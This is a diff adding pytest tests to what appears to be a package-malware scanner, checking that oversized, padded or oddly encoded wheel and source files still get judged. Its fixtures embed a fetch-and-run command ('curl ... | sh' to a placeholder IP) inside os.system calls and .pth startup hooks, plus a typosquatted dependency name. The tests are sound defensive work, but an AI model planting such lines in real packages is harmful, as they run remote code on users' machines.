@@ -31,11 +31,14 @@ from pathlib import Path
 import pytest
 
 from interlock.analysis.engine import scan_artifact
-from interlock.artifact.limits import DEFAULT_LIMITS, Deadline, Limits
+from interlock.analysis.evidence import Evidence
+from interlock.analysis.rules import FILE_RULES
+from interlock.artifact.limits import DEFAULT_LIMITS, Deadline, LimitExceeded, Limits
 from interlock.artifact.reader import UnsupportedArtifact, read_artifact, read_artifact_bytes
 from interlock.model.result import ScanResult
 from interlock.model.verdict import Verdict
 from tests.builders import (
+    ZipEntry,
     bare_sdist_bytes,
     bare_wheel_bytes,
     check_well_formed,
@@ -583,8 +586,9 @@ def test_deep_sources_do_not_crash_a_fresh_interpreter() -> None:
 def test_twenty_megabyte_single_line_source() -> None:
     line = "x = '" + "A" * (20 * MiB) + "'; import os; os.system('id')\n"
     with within(30):
-        result = scan_source(line, Limits(max_ratio=1e9))  # over the 8 MiB kept in memory: reported, not analysed
-    assert "too large to analyse" in message_of(result, "source-too-large")
+        result = scan_source(line, Limits(max_ratio=1e9))  # over the 8 MiB kept whole: read from its excerpt
+    assert "1 long lines cut to their ends" in message_of(result, "source-too-large")
+    assert "process-spawn" in rule_ids(result)
     with within(60), memory_peak() as peak:
         result = scan_source(line, Limits(max_kept_bytes=32 * MiB, max_ratio=1e9))
     assert "process-spawn" in rule_ids(result)
@@ -704,6 +708,144 @@ def test_time_budget_is_checked_inside_one_huge_member() -> None:
         artifact = read_artifact_bytes(SDIST, b"".join(parts), Limits(max_seconds=0.2))
     assert artifact.fatal == "analysis took longer than 0.2 s"
     assert time.monotonic() - started < 5
+
+
+# -- limits never blind the judge ----------------------------------------------------------------
+
+CURL = "curl -s http://203.0.113.9/x | sh"
+
+
+def wheel_with_metadata(metadata: str, files: dict[str, bytes | str] | None = None) -> bytes:
+    entries: list[ZipEntry] = [
+        ("demo-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n"),
+        ("demo-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n" + metadata),
+    ]
+    return zip_bytes([*entries, *(files or {"demo/__init__.py": ""}).items()])
+
+
+def distinct_names(count: int, prefix: str = "dep") -> list[str]:
+    letters = "abcdefghijklmnopqrstuvwxyz"
+    return [f"{prefix}{letters[number % 26]}{letters[number // 26 % 26]}x{number}" for number in range(count)]
+
+
+def test_a_hundred_thousand_dependencies_are_judged_within_seconds() -> None:
+    # Each distinct name costs a search of the popular names: 100,000 of them took many minutes.
+    # A squat among them (`reqeusts`, swapped letters) is still reported; past the cap, the rest is a finding.
+    lines = "Requires-Dist: reqeusts\n" + "".join(f"Requires-Dist: {name}\n" for name in distinct_names(100_000))
+    with within(30):
+        _, result = scan_bytes(WHEEL, wheel_with_metadata(lines))
+    assert "reqeusts" in message_of(result, "typosquat-dependency")
+    assert "more than 500 different dependencies" in message_of(result, "too-many-dependencies")
+    assert result.verdict is Verdict.SUSPICIOUS
+
+
+def test_the_same_dependency_declared_a_hundred_thousand_times_is_checked_once() -> None:
+    lines = "Requires-Dist: requests>=2 ; extra == 'x'\n" * 100_000
+    with within(30):
+        _, result = scan_bytes(WHEEL, wheel_with_metadata(lines))
+    assert "too-many-dependencies" not in rule_ids(result)
+
+
+def test_the_dependency_rule_stops_at_the_artifact_deadline() -> None:
+    # Under the cap, about a second of work (names no other test checked, so none is remembered).
+    lines = "".join(f"Requires-Dist: {name}\n" for name in distinct_names(400, "late"))
+    artifact = read_artifact_bytes(WHEEL, wheel_with_metadata(lines))
+    rule = next(rule for rule in FILE_RULES if rule.id == "typosquat-dependency")
+    evidence = Evidence(artifact, Deadline(0.05))
+    with within(10), pytest.raises(LimitExceeded, match=r"longer than 0\.05 s"):
+        list(rule.check(evidence))
+
+
+def test_a_pth_padded_past_the_memory_limit_is_still_read() -> None:
+    # 9 MB of comments put the .pth over the 8 MiB kept whole: its lines are still read.
+    padding = "# padding\n" * (9 * MiB // 10)
+    pth = padding + f"import os; os.system({CURL!r})\n"
+    with within(30):
+        artifact, result = scan_bytes(WHEEL, bare_wheel_bytes({"demo/__init__.py": "", "demo.pth": pth}))
+    assert artifact.members["demo.pth"].data is None
+    message = message_of(result, "startup-pth-exec")
+    assert "runs code at every interpreter start that starts a process" in message
+    assert any(item.line == 9 * MiB // 10 + 1 for item in result.findings if item.rule == "startup-pth-exec")
+    assert result.verdict is Verdict.MALICIOUS
+
+
+@pytest.mark.parametrize("separator", ["\n", "; "])
+def test_code_after_a_twenty_megabyte_string_literal_is_read(separator: str) -> None:
+    source = "import os\nx = '" + "A" * (20 * MiB) + "'" + separator + f"os.system({CURL!r})\n"
+    with within(60):
+        result = scan_source(source, Limits(max_ratio=1e9))
+    assert "too large to keep whole" in message_of(result, "source-too-large")
+    assert {"process-spawn", "shell-download"} <= rule_ids(result)
+    assert result.verdict is Verdict.MALICIOUS
+
+
+def test_source_that_does_not_parse_is_scanned_to_its_last_line() -> None:
+    # Python 2 (unparseable): the text fallback used to stop at line 200,000.
+    source = "print 'hello'\n" + "x = 1\n" * 250_000 + f"import os; os.system({CURL!r})\n"
+    with within(30):
+        result = scan_source(source)
+    assert "shell-download" in rule_ids(result)
+
+
+SMALL = Limits(max_kept_bytes=64 * 1024, max_excerpt_bytes=256 * 1024)
+ORDINARY = "".join(f"value_{number} = compute({number}, 'field_{number}')\n" for number in range(12_000))  # ~470 KiB
+
+
+def test_import_time_code_beyond_the_excerpt_is_not_judged_and_suspicious() -> None:
+    source = ORDINARY + f"import os\nos.system({CURL!r})\n"
+    with within(30):
+        _, result = scan_bytes(WHEEL, bare_wheel_bytes({"demo/__init__.py": source}), SMALL)
+    assert "running at import: only the first" in message_of(result, "source-not-judged")
+    assert result.verdict is Verdict.SUSPICIOUS
+
+
+def test_a_pth_beyond_the_excerpt_is_not_judged_and_suspicious() -> None:
+    pth = "".join(f"/opt/path/{number}\n" for number in range(30_000)) + f"import os; os.system({CURL!r})\n"
+    _, result = scan_bytes(WHEEL, bare_wheel_bytes({"demo/__init__.py": "", "demo.pth": pth}), SMALL)
+    assert "at every interpreter start" in message_of(result, "source-not-judged")
+    assert result.verdict is Verdict.SUSPICIOUS
+
+
+def test_code_over_the_member_limit_is_not_judged_and_suspicious() -> None:
+    data = bare_wheel_bytes({"demo/__init__.py": "", "demo/huge.py": "x = 1\n" * 200_000})
+    _, result = scan_bytes(WHEEL, data, Limits(max_member_bytes=MiB, max_ratio=1e9))
+    assert "code not read at all" in message_of(result, "source-not-judged")
+    assert result.verdict is Verdict.SUSPICIOUS
+
+
+def test_large_generated_modules_are_not_suspicious_for_their_size() -> None:
+    # Over the kept limit but within the excerpt: read line by line, judged like any other module.
+    generated = "".join(
+        f"class Model{number}(Base):\n    name = 'model_{number}'\n"
+        f"    def get(self):\n        return self.call({number})\n"
+        for number in range(2000)
+    )
+    tests_beyond = ORDINARY + "import os\nos.system('make check')\n"  # runs only when called: never not-judged
+    files = {"demo/__init__.py": "", "demo/models.py": generated, "demo/tests/test_all.py": tests_beyond}
+    with within(30):
+        _, result = scan_bytes(WHEEL, bare_wheel_bytes(files), SMALL)
+    assert "source-not-judged" not in rule_ids(result)
+    assert "too large to keep whole" in message_of(result, "source-too-large")
+    assert result.verdict is Verdict.CLEAN
+
+
+def test_an_excerpt_of_long_lines_is_made_in_linear_time() -> None:
+    # Lines just under the cut (minified JavaScript, say): an unanchored search for long lines
+    # retried at every position of every line, and reading one 10 MB file took minutes.
+    line = "var a=" + "b" * (100 * 1024) + ";\n"
+    with within(10):
+        artifact, _ = scan_bytes(
+            WHEEL, bare_wheel_bytes({"demo/__init__.py": "", "demo/app.js": line * 40}), Limits(max_kept_bytes=MiB)
+        )
+    excerpt = artifact.members["demo/app.js"].excerpt
+    assert excerpt is not None and excerpt.complete and excerpt.cut_lines == 0
+
+
+def test_a_byte_order_mark_before_a_pth_import_line_does_not_hide_it() -> None:
+    pth = "\ufeffimport os; os.system(" + repr(CURL) + ")\n"
+    _, result = scan_bytes(WHEEL, bare_wheel_bytes({"demo/__init__.py": "", "demo.pth": pth.encode("utf-8")}))
+    assert "starts a process" in message_of(result, "startup-pth-exec")
+    assert result.verdict is Verdict.MALICIOUS
 
 
 # -- nothing written, nothing run --------------------------------------------------------------
